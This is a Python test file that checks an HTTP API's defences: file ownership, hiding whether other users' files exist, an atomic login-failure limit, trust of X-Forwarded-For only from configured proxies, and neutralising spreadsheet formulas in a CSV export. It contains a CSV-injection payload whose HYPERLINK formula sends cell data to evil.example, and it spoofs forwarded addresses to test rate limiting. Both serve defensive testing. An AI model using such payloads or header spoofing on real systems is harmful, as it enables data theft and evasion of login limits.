"""Security over HTTP: file ownership, no existence oracle, atomic login limit, trusted proxies, CSV cells."""

from __future__ import annotations

import csv
import hashlib
import io
import threading
import uuid
from pathlib import Path

from .live import PASSWORD, Api, Database, ServerProcess, live_server
from .records import change, company, pushed, scan

PDF = b"%PDF-1.7\nrapport van bob\n%%EOF\n"
SHA = hashlib.sha256(PDF).hexdigest()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"klik")'


def upload(api: Api, content: bytes, scan_id: uuid.UUID | None = None) -> tuple[int, dict[str, object]]:
    params = {"name": "rapport.pdf", **({"scan_id": str(scan_id)} if scan_id else {})}
    digest = hashlib.sha256(content).hexdigest()
    response = api.put(f"/files/{digest}", data=content, params=params, headers={"Content-Type": "application/pdf"})
    return response.status_code, response.json()


def test_a_file_is_only_attached_to_the_uploaders_own_existing_scan(alice: Api, bob: Api) -> None:
    company_id, bobs_scan = uuid.uuid4(), uuid.uuid4()
    pushed(bob, change("company", company_id, company()), change("scan", bobs_scan, scan(company_id)))
    planted = b"%PDF-1.7\nplanted by alice\n%%EOF\n"
    status, problem = upload(alice, planted, bobs_scan)
    assert status == 404
    assert problem["detail"] == f"Scan {bobs_scan} does not exist"
    assert bob.get(f"/files/{hashlib.sha256(planted).hexdigest()}").status_code == 404, "bob is not handed alice's file"
    nowhere = uuid.uuid4()
    status, problem = upload(alice, planted, nowhere)
    assert (status, problem["detail"]) == (404, f"Scan {nowhere} does not exist"), "same answer: no hint whose scan it is"
    status, stored = upload(bob, PDF, bobs_scan)
    assert (status, stored["created"]) == (200, True)
    assert bob.get(f"/files/{SHA}").content == PDF


def test_asking_which_files_are_missing_tells_nothing_about_other_advisors_files(alice: Api, bob: Api) -> None:
    assert upload(bob, PDF)[0] == 200
    ask = {"files": [{"sha256": SHA, "size": len(PDF)}]}
    assert alice.post("/files/missing", json=ask).json() == {"missing": [SHA]}, "bob's file is none of alice's business"
    assert alice.get(f"/files/{SHA}").status_code == 404
    status, stored = upload(alice, PDF)
    assert (status, stored["created"]) == (200, True), "new for alice: the answer does not reveal that bob has it"
    assert alice.post("/files/missing", json=ask).json() == {"missing": []}
    assert alice.get(f"/files/{SHA}").content == PDF


def test_concurrent_wrong_passwords_get_no_more_checks_than_the_limit(database: Database) -> None:
    with live_server(database, login_max_failures=5) as server:
        statuses: list[int] = []
        lock = threading.Lock()
        start = threading.Barrier(40)

        def attempt() -> None:
            api = Api(server.url)
            start.wait()
            response = api.post("/auth/login", json={"username": "bob", "password": "a wrong guess"})
            with lock:
                statuses.append(response.status_code)

        threads = [threading.Thread(target=attempt) for _ in range(40)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert set(statuses) <= {401, 429}
        checked = statuses.count(401)
        assert checked <= 5, f"{checked} passwords were checked, the limit is 5"
        right = Api(server.url).post("/auth/login", json={"username": "bob", "password": PASSWORD})
        assert right.status_code == (429 if checked == 5 else 200), "refused attempts were never checked, so never count"


def failed_logins_from_rotating_addresses(url: str, count: int) -> list[int]:
    api = Api(url)
    return [
        api.post(
            "/auth/login",
            json={"username": f"nobody{n}", "password": "guess"},
            headers={"X-Forwarded-For": f"198.51.100.{n}"},
        ).status_code
        for n in range(count)
    ]


def test_forwarded_addresses_count_only_from_configured_proxies(database: Database, tmp_path: Path) -> None:
    """The per-address limit is 4 x 5 failures; a local process must not dodge it by inventing addresses."""
    with ServerProcess(database.url, tmp_path / "plain.log") as server:
        statuses = failed_logins_from_rotating_addresses(server.url, 22)
    assert statuses[:20] == [401] * 20
    assert statuses[20:] == [429, 429], "without a configured proxy X-Forwarded-For is ignored"
    with ServerProcess(database.url, tmp_path / "proxied.log", env={"BASISSCAN_SERVER_TRUSTED_PROXIES": "127.0.0.1"}) as server:
        statuses = failed_logins_from_rotating_addresses(server.url, 22)
    assert statuses == [401] * 22, "behind a configured proxy each forwarded address counts on its own"


def test_the_scans_export_neutralises_formulas(alice: Api, carol: Api) -> None:
    company_id = uuid.uuid4()
    pushed(
        alice,
        change("company", company_id, company(name=FORMULA, municipality="@SUM(1+1)")),
        change("scan", uuid.uuid4(), scan(company_id, completed=True)),
    )
    body = carol.get("/monitoring/scans.csv").content.decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(body), delimiter=","))  # the Api speaks English: plain CSV
    assert row["company"] == "'" + FORMULA
    assert row["municipality"] == "'@SUM(1+1)"
    assert float(row["sii"]) == 50.0, "numbers stay numbers"
